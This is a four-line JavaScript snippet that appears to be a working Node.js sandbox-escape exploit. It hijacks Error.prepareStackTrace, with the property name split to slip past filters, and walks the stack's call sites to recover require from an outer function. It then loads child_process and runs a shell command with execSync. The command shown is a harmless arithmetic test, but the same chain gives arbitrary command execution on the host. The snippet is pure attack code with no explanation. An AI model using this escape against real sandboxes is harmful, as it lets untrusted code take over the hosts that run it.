const old=Error.prepareStackTrace; Error['prepare'+'StackTrace']=(e,s)=>s;
const fr=new Error().stack; const f=fr.map(x=>x.getFunction&&x.getFunction()).filter(Boolean);
f[f.length-1];
f[0].arguments[1]('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
